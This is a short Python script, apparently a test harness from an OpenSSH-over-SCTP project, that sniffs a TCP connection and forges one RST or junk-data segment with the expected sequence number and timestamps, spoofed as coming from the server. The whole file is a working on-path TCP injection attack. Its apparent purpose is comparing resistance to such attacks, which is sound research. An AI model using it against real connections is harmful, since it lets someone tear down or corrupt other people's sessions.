#!/usr/bin/python3
# tcp-forge: the same attacker on the path as sctp-forge.py, against a TCP
# connection (SSH over TCP, for comparison): one forged segment.
#
#   tcp-forge.py IFACE SPORT MODE
#	sniff IFACE for segments from port SPORT (the server) that carry
#	data; once FORGE_DELAY seconds (default 0) have passed since the
#	first, the file FORGE_GO exists if that is set, and the connection
#	has been quiet for 1 s (so the numbers are current), send the
#	client, from the server, with the sequence number the client
#	expects next and the server's last timestamps:
#	  rst   a RST segment
#	  data  64 bytes of data (an SSH packet that cannot verify)
#	Prints "sniffing", then "sent MODE seq N at UPTIME" (/proc/uptime
#	when it was sent); exits 1 if it saw no
#	data within 240 s.
#
# Copyright (c) 2026 The openssh-sctp authors.  BSD licence: see LICENCE.

import os
import sys
import time

from forgelib import sniff_until
from scapy.all import IP, TCP, Raw, conf, send

conf.verb = 0
iface, sport, mode = sys.argv[1], int(sys.argv[2]), sys.argv[3]
delay = float(os.environ.get("FORGE_DELAY", "0"))
go = os.environ.get("FORGE_GO")
st = {}


def watch(p):
    if TCP not in p or IP not in p or \
            sport not in (p[TCP].sport, p[TCP].dport):
        return
    t = p[TCP]
    if "last" in st and st["last"][2] not in (t.sport, t.dport):
        return	# another connection
    st["quiet"] = time.time()
    n = len(t.payload)
    if t.sport != sport or (n == 0 and "first" not in st):
        return
    st["last"] = (p[IP].src, p[IP].dst, t.dport, (t.seq + n) & 0xffffffff,
                  t.ack, [o for o in t.options if o[0] == "Timestamp"])
    st.setdefault("first", time.time())


def ready():
    """DELAY after the first data, FORGE_GO there, 1 s without a segment."""
    now = time.time()
    return "first" in st and now - st["first"] >= delay and \
        (go is None or os.path.exists(go)) and now - st["quiet"] >= 1


sniff_until(iface, watch, ready, 240 + delay)
if "last" not in st:
    print("no connection seen", flush=True)
    os._exit(1)	# the sniffer's thread too
src, dst, dport, seq, ack, ts = st["last"]
seg = IP(src=src, dst=dst) / TCP(sport=sport, dport=dport, seq=seq, ack=ack,
                                 options=ts)
if mode == "rst":
    seg[TCP].flags = "R"
else:
    seg[TCP].flags = "PA"
    seg = seg / Raw(b"\x00\x00\x00\x3c" + os.urandom(60))
send(seg)
with open("/proc/uptime") as f:
    print("sent %s seq %d at %s" % (mode, seq, f.read().split()[0]),
          flush=True)
os._exit(0)
